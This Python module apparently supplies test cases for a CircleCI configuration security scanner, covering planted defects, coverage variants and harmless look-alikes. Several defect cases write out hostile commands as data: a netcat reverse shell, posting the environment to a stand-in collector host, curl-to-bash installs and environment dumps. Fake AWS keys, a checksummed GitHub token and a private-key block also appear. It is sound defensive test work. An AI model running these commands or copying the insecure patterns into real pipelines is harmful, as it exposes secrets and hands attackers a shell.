"""One defect in an otherwise clean config, or one harmless thing that looks like a defect."""

from __future__ import annotations

import zlib
from dataclasses import dataclass, field

DIGEST = "sha256:" + "5c3d0f7d1b7a4a6b" * 4
IMAGE = f"cimg/base:2026.08@{DIGEST}"
KEY_ID = "AKIA" + "QYLPMN5HFIQR7XYA"
KEY = "8fK2mQz7Lw1VbX9rT4cN" + "/6yHs3JdGpU5eAo0iZqW"
_DIGITS = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def _token(body: str) -> str:
    """Make a GitHub token: its last six characters are the checksum of the others."""
    rest, end = zlib.crc32(body.encode()), ""
    for _ in range(6):
        rest, digit = divmod(rest, 62)
        end = _DIGITS[digit] + end
    return "ghp_" + body + end


TOKEN = _token("4f9XkQ2mZ7LwVbT1cNrYs3JdGpU5eA")


@dataclass(frozen=True)
class Case:
    """A config and the rules of which one has to find it; none for a harmless one."""

    name: str
    files: dict[str, str] = field(repr=False)
    rules: tuple[str, ...] = ()
    line: str = ""
    """A part of the line that the finding has to point at."""


def _job(
    steps: str, *, image: str = IMAGE, top: str = "", job: str = "", flow: str = "", name: str = ""
) -> dict[str, str]:
    body = "\n".join(f"      {line}" for line in steps.strip("\n").splitlines())
    label = name or "build"
    entry = f"      - {label}" + (f":\n{flow.rstrip()}" if flow else "")
    text = (
        f"version: 2.1\n{top}jobs:\n  {label}:\n    docker:\n      - image: {image}\n{job}"
        f"    steps:\n{body}\nworkflows:\n  main:\n    jobs:\n{entry}\n"
    )
    return {".circleci/config.yml": text}


def _run(command: str, **more: str) -> dict[str, str]:
    body = "\n".join(f"      {line}" for line in command.strip("\n").splitlines())
    return _job(f"- run:\n    name: Do it\n    command: |\n{body}", **more)


_MAIN = (
    "          context: release\n          filters:\n            branches:\n"
    "              only: main\n"
)
_ENV = "    environment:\n"

DEFECTS = (
    Case("D01 tag only", _run("make", image="cimg/base:2026.08"), ("image-digest-missing",)),
    Case("D02 latest", _run("make", image="cimg/base:latest"), ("image-unpinned",)),
    Case("D03 no tag", _run("make", image="cimg/base"), ("image-unpinned",)),
    Case("D04 legacy image", _run("make", image=f"circleci/node:14@{DIGEST}"), ("image-legacy",)),
    Case(
        "D05 old machine image",
        {
            ".circleci/config.yml": "version: 2.1\njobs:\n  build:\n    machine:\n"
            "      image: ubuntu-1604:202004-01\n    steps: [checkout]\n"
            "workflows:\n  main:\n    jobs: [build]\n"
        },
        ("machine-image-unsupported",),
    ),
    Case(
        "D06 unknown registry",
        _run("make", image=f"registry.unheard-of.example/base:1.0@{DIGEST}"),
        ("image-registry-unknown",),
    ),
    Case(
        "D07 volatile orb",
        _job("- node/install", top="orbs:\n  node: circleci/node@volatile\n"),
        ("orb-unpinned",),
        "volatile",
    ),
    Case(
        "D08 dev orb",
        _job("- node/install", top="orbs:\n  node: circleci/node@dev:first\n"),
        ("orb-unpinned",),
    ),
    Case(
        "D09 major only",
        _job("- node/install", top="orbs:\n  node: circleci/node@5\n"),
        ("orb-unpinned",),
    ),
    Case(
        "D10 minor only",
        _job("- node/install", top="orbs:\n  node: circleci/node@5.1\n"),
        ("orb-unpinned",),
    ),
    Case(
        "D11 unknown namespace",
        _job("- tool/install", top="orbs:\n  tool: unheard-of/tool@1.2.3\n"),
        ("orb-untrusted",),
    ),
    Case(
        "D12 AWS keys",
        _run(
            "aws s3 ls",
            job=f"{_ENV}      AWS_ACCESS_KEY_ID: {KEY_ID}\n      AWS_SECRET_ACCESS_KEY: {KEY}\n",
        ),
        ("plaintext-secret",),
        KEY_ID,
    ),
    Case(
        "D13 docker auth",
        _run("make", job="        auth:\n          username: me\n          password: Xk29vQm7Lz\n"),
        ("plaintext-secret",),
        "password",
    ),
    Case(
        "D14 password",
        _run("make", job=f"{_ENV}      DB_PASSWORD: Xk29vQm7LzTr4\n"),
        ("plaintext-secret",),
        "DB_PASSWORD",
    ),
    Case(
        "D15 secure block",
        _run("make", job=f"{_ENV}      secure: {'Rk2mQz7Lw1VbX9rT4cN6yHs3JdGpU5eAo0iZqW' * 4}=\n"),
        ("encrypted-secret",),
    ),
    Case(
        "D16 parameter default",
        _run(
            'make "$X"',
            top=f"parameters:\n  key:\n    type: string\n    default: {TOKEN}\n",
        ),
        ("plaintext-secret",),
        "default",
    ),
    Case(
        "D17 token in a URL",
        _run(f"git clone https://x-access-token:{TOKEN}@github.com/acme/shop.git"),
        ("plaintext-secret",),
        "git clone",
    ),
    Case(
        "D18 private key",
        _run(
            "cat \\<<'EOF' > key.pem\n-----BEGIN RSA PRIVATE KEY-----\n"
            + "\n".join(
                ("MIIEpAIBAAKCAQEA1c7" + "q9Zf3Kx2LmV8Tn5Rb4Wy6Hs0Jd" * 2)[:64] for _ in "1234"
            )
            + "\n-----END RSA PRIVATE KEY-----\nEOF"
        ),
        ("plaintext-secret",),
    ),
    Case(
        "D19 branch pasted",
        _run('echo "<< pipeline.git.branch >>"'),
        ("template-injection",),
        "pipeline.git.branch",
    ),
    Case(
        "D20 branch unquoted",
        _run("git checkout $CIRCLE_BRANCH"),
        ("variable-unquoted",),
    ),
    Case(
        "D21 string parameter pasted",
        _run(
            'echo "<< pipeline.parameters.msg >>"',
            top="parameters:\n  msg:\n    type: string\n    default: hi\n",
        ),
        ("template-injection",),
        "pipeline.parameters.msg",
    ),
    Case("D22 eval", _run('eval "deploy $CIRCLE_TAG"'), ("variable-injection",)),
    Case(
        "D23 pull request title",
        _run("echo << pipeline.event.github.pull_request.title >>"),
        ("template-injection",),
    ),
    Case("D24 curl bash", _run("curl -sSL https://x.example/i.sh | bash"), ("curl-pipe-shell",)),
    Case("D25 bash <(curl)", _run("bash <(curl -s https://x.example/i.sh)"), ("curl-pipe-shell",)),
    Case(
        "D26 download and run",
        _run("curl -sSLo tool https://x.example/latest/tool\nchmod +x tool\n./tool"),
        ("download-unverified",),
    ),
    Case("D27 echo", _run("echo $DEPLOY_TOKEN"), ("secret-echoed",)),
    Case(
        "D28 set -x",
        _run('set -x\n./deploy.sh --key "$DEPLOY_TOKEN"'),
        ("tracing-secrets",),
    ),
    Case("D29 printenv", _run("printenv"), ("env-dump",)),
    Case("D30 base64", _run('echo "$DEPLOY_TOKEN" | base64'), ("secret-echoed",)),
    Case(
        "D31 docker login -p",
        _run('docker login -u "$DOCKER_USER" -p "$DOCKER_PASS"'),
        ("secret-in-argv",),
    ),
    Case(
        "D32 environment posted",
        _run('curl -X POST -d "$(env)" https://collect.example/x'),
        ("env-exfiltration",),
    ),
    Case("D33 reverse shell", _run("nc -e /bin/sh 203.0.113.5 4444"), ("reverse-shell",)),
    Case(
        "D34 TLS off",
        _run("curl -k https://x.example/a\nexport NODE_TLS_REJECT_UNAUTHORIZED=0\nnpm ci"),
        ("tls-verification-off",),
    ),
    Case(
        "D35 host key",
        _run("ssh -o StrictHostKeyChecking=no deploy@shop.example.com ./deploy.sh"),
        ("ssh-host-key-unchecked",),
    ),
    Case("D36 packages", _run("npm install -g serve\npip install black"), ("package-unpinned",)),
    Case(
        "D37 http index",
        _run("pip install --index-url http://pypi.example.com/simple black==24.1.0"),
        ("insecure-download",),
    ),
    Case(
        "D38 artifacts of ~/.aws",
        _job("- store_artifacts:\n    path: ~/.aws"),
        ("secret-stored",),
    ),
    Case("D39 artifacts of .", _job("- store_artifacts:\n    path: ."), ("secret-stored",)),
    Case(
        "D40 workspace of ~/.ssh",
        _job("- persist_to_workspace:\n    root: ~\n    paths: [.ssh]"),
        ("secret-stored",),
    ),
    Case("D41 all SSH keys", _job("- add_ssh_keys"), ("ssh-keys-unrestricted",)),
    Case(
        "D42 privileged",
        _job("- setup_remote_docker\n- run: docker run --privileged acme/tool:1.0 build"),
        ("docker-privileged",),
    ),
    Case(
        "D43 docker socket",
        _run("docker run -v /var/run/docker.sock:/var/run/docker.sock acme/tool:1.0"),
        ("docker-socket-mounted",),
    ),
    Case(
        "D44 cache from a branch",
        _job(
            "- restore_cache:\n    keys: ['deps-{{ .Branch }}', 'deps-']\n- run: npm publish",
            name="release",
            flow=_MAIN,
        ),
        ("cache-poisoning",),
    ),
    Case(
        "D45 open context",
        _run("./integration.sh", flow="          context: staging\n"),
        ("context-open",),
    ),
    Case(
        "D46 open deploy",
        _run("kubectl apply -f k8s/", name="deploy", flow="          context: production\n"),
        ("deploy-ungated", "context-open"),
    ),
    Case(
        "D47 self-hosted runner",
        {
            ".circleci/config.yml": "version: 2.1\njobs:\n  build:\n    machine: true\n"
            "    resource_class: acme/linux\n    steps:\n      - checkout\n      - run: make\n"
            "workflows:\n  main:\n    jobs: [build]\n"
        },
        ("runner-open",),
    ),
    Case(
        "D48 generated config",
        {
            ".circleci/config.yml": "version: 2.1\nsetup: true\norbs:\n"
            "  continuation: circleci/continuation@1.0.0\njobs:\n  generate:\n    docker:\n"
            f"      - image: {IMAGE}\n    steps:\n      - checkout\n      - run: |\n"
            '          sed "s/BRANCH/$CIRCLE_BRANCH/" template.yml > generated.yml\n'
            "      - continuation/continue:\n          configuration_path: generated.yml\n"
            "workflows:\n  main:\n    jobs: [generate]\n"
        },
        ("dynamic-config-untrusted",),
    ),
    Case(
        "D49 OIDC on every branch",
        _job(
            "- aws-cli/setup:\n    role_arn: arn:aws:iam::123456789012:role/deploy\n"
            "- run: aws s3 sync dist s3://shop",
            top="orbs:\n  aws-cli: circleci/aws-cli@5.1.0\n",
        ),
        ("oidc-open",),
    ),
    Case("D50 moving tag", _run("make", image="cimg/base:current"), ("image-unpinned",)),
    Case(
        "D51 org-global",
        _run("make", flow="          context: org-global\n"),
        ("context-open",),
    ),
    Case(
        "D52 build argument",
        _run('docker build --build-arg NPM_TOKEN="$NPM_TOKEN" -t acme/app:1 .'),
        ("secret-in-build-arg",),
    ),
    Case(
        "D53 secret on a command line",
        _run('curl -u "me:$API_TOKEN" http://api.example.com/x'),
        ("secret-in-argv",),
    ),
    Case(
        "D54 URL orb on a branch",
        _job(
            "- tool/install",
            top="orbs:\n  tool: https://raw.githubusercontent.com/acme/orbs/main/tool.yml\n",
        ),
        ("orb-url-mutable",),
    ),
)

_PIPE = "curl -sSL https://x.example/i.sh | bash"
_SAY = "commands:\n  say:\n    steps:\n      - run: echo {}\n"
_COMMAND = "commands:\n  install:\n    steps:\n      - run: {}\n"

COVERAGE = (
    Case("C01 command", _job("- install", top=_COMMAND.format(_PIPE)), ("curl-pipe-shell",)),
    Case(
        "C02 executor",
        {
            ".circleci/config.yml": "version: 2.1\nexecutors:\n  main:\n    docker:\n"
            "      - image: cimg/base:latest\njobs:\n  build:\n    executor: main\n"
            "    steps: [checkout]\nworkflows:\n  main:\n    jobs: [build]\n"
        },
        ("image-unpinned",),
    ),
    Case(
        "C03 inline orb",
        {
            ".circleci/config.yml": "version: 2.1\norbs:\n  mine:\n    jobs:\n      build:\n"
            f"        docker:\n          - image: {IMAGE}\n        steps:\n"
            f"          - run: {_PIPE}\n"
            "workflows:\n  main:\n    jobs: [mine/build]\n"
        },
        ("curl-pipe-shell",),
    ),
    Case(
        "C04 when step",
        _job(
            "- when:\n    condition: << pipeline.parameters.full >>\n"
            f"    steps:\n      - run: {_PIPE}",
            top="parameters:\n  full:\n    type: boolean\n    default: false\n",
        ),
        ("curl-pipe-shell",),
    ),
    Case(
        "C05 anchor",
        _job("- *install", top=f"install: &install\n  run: {_PIPE}\n"),
        ("curl-pipe-shell",),
    ),
    Case("C06 short form", _job(f"- run: {_PIPE}"), ("curl-pipe-shell",)),
    Case(
        "C07 image parameter",
        {
            ".circleci/config.yml": "version: 2.1\nexecutors:\n  main:\n    parameters:\n"
            "      tag:\n        type: string\n        default: latest\n    docker:\n"
            "      - image: cimg/base:<< parameters.tag >>\njobs:\n  build:\n    executor: main\n"
            "    steps: [checkout]\nworkflows:\n  main:\n    jobs: [build]\n"
        },
        ("image-unpinned",),
    ),
    Case(
        "C08 another file",
        {
            **_job("- run: make"),
            ".circleci/continue_config.yml": _job(f"- run: {_PIPE}")[".circleci/config.yml"],
        },
        ("curl-pipe-shell",),
    ),
    Case(
        "C09 orb source",
        {
            "src/@orb.yml": "version: 2.1\ndescription: An orb\n",
            "src/commands/install.yml": f"description: Install\nsteps:\n  - run: {_PIPE}\n",
        },
        ("curl-pipe-shell",),
    ),
    Case(
        "C10 pre-steps",
        _job("- checkout", flow=f"          pre-steps:\n            - run: {_PIPE}\n"),
        ("curl-pipe-shell",),
    ),
    Case(
        "C11 service image",
        _run("make", job="      - image: redis:latest\n"),
        ("image-unpinned",),
    ),
    Case(
        "C12 included script",
        {
            "src/@orb.yml": "version: 2.1\ndescription: An orb\n",
            "src/commands/install.yml": "description: Install\nsteps:\n  - run:\n"
            "      name: Install\n      command: <<include(scripts/install.sh)>>\n",
            "src/scripts/install.sh": f"#!/usr/bin/env bash\n{_PIPE}\n",
        },
        ("curl-pipe-shell",),
    ),
    Case(
        "C13 branch in a command",
        _job(
            "- say",
            top=_SAY.format("<< pipeline.git.branch >>"),
        ),
        ("template-injection",),
    ),
    Case(
        "C14 echo in a command",
        _job("- say", top=_SAY.format("$DEPLOY_TOKEN")),
        ("secret-echoed",),
    ),
    Case(
        "C15 branch by a parameter",
        _job(
            "- say:\n    what: << pipeline.git.branch >>",
            top="commands:\n  say:\n    parameters:\n      what:\n        type: string\n"
            "    steps:\n      - run: echo << parameters.what >>\n",
        ),
        ("template-injection",),
    ),
    Case(
        "C16 executor environment",
        {
            ".circleci/config.yml": "version: 2.1\nexecutors:\n  main:\n    docker:\n"
            f"      - image: {IMAGE}\n    environment:\n      AWS_ACCESS_KEY_ID: {KEY_ID}\n"
            f"      AWS_SECRET_ACCESS_KEY: {KEY}\njobs:\n  build:\n    executor: main\n"
            "    steps: [checkout]\nworkflows:\n  main:\n    jobs: [build]\n"
        },
        ("plaintext-secret",),
    ),
    Case(
        "C17 repeated anchor",
        _job(f"- run: {_PIPE}", top="a: &a 1\nb: &a 2\n"),
        ("curl-pipe-shell",),
    ),
)

HARMLESS = (
    Case("N01 clean", _run("make test")),
    Case("N02 quoted branch", _run('echo "$CIRCLE_BRANCH"')),
    Case("N03 comment", _run(f"# {_PIPE}\nmake")),
    Case("N04 branch compared", _run('if [ "$CIRCLE_BRANCH" = main ]; then make; fi')),
    Case(
        "N05 local database",
        _run(
            "make test",
            job=f"      - image: postgres:16.2@{DIGEST}\n        environment:\n"
            "          POSTGRES_PASSWORD: postgres\n",
        ),
    ),
    Case(
        "N06 only whether it is set", _run('echo "length: ${#DEPLOY_TOKEN} ${DEPLOY_TOKEN:+set}"')
    ),
    Case(
        "N07 checked download",
        _run(
            "curl -sSLo tool https://x.example/v1.2.3/tool\n"
            f'echo "{"0123456789abcdef" * 4}  tool" | sha256sum -c -\nchmod +x tool\n./tool'
        ),
    ),
    Case(
        "N08 password by standard input",
        _run('printf "%s" "$DOCKER_PASS" | docker login -u "$DOCKER_USER" --password-stdin'),
    ),
    Case(
        "N09 auth from variables",
        _run(
            "make",
            job="        auth:\n          username: $HUB_USER\n          password: $HUB_PASS\n",
        ),
    ),
    Case("N10 gated context", _run("make", flow=_MAIN)),
    Case(
        "N11 exact orb",
        _job("- node/install", top="orbs:\n  node: circleci/node@5.2.0\n"),
    ),
    Case(
        "N12 documentation key",
        _run(
            "make",
            job=f"{_ENV}      AWS_ACCESS_KEY_ID: AKIAIOSFODNN7EXAMPLE\n"
            "      AWS_SECRET_ACCESS_KEY: wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
        ),
    ),
    Case(
        "N13 branch by the environment",
        _job(
            "- run:\n    environment:\n      BRANCH: << pipeline.git.branch >>\n"
            '    command: echo "$BRANCH"'
        ),
    ),
    Case("N14 plain post", _run("curl -X POST -d '{\"ok\": true}' https://api.example.com/done")),
    Case("N15 volatile in a comment", _run("make", top="# orbs: node: circleci/node@volatile\n")),
    Case(
        "N16 token into a pipe",
        _run('echo "$DOCKER_TOKEN" | docker login -u me --password-stdin'),
    ),
    Case(
        "N17 token into a file",
        _run('echo "//registry.npmjs.org/:_authToken=$NPM_TOKEN" > ~/.npmrc\nnpm ci'),
    ),
    Case("N18 backquotes in a comment", _run("# run `make` and `eval $CIRCLE_BRANCH`\nmake")),
    Case(
        "N19 URL orb at a commit",
        _job(
            "- tool/install",
            top="orbs:\n  tool: https://raw.githubusercontent.com/acme/orbs/"
            "07b63e4750438deef3fc0bd2aa10a5eda1d12026/tool.yml\n",
        ),
    ),
    Case(
        "N20 an orb's own test",
        _job(
            "- mine/greet",
            top="orbs:\n  mine: acme/mine@dev:<< pipeline.git.revision >>\n",
        ),
    ),
)
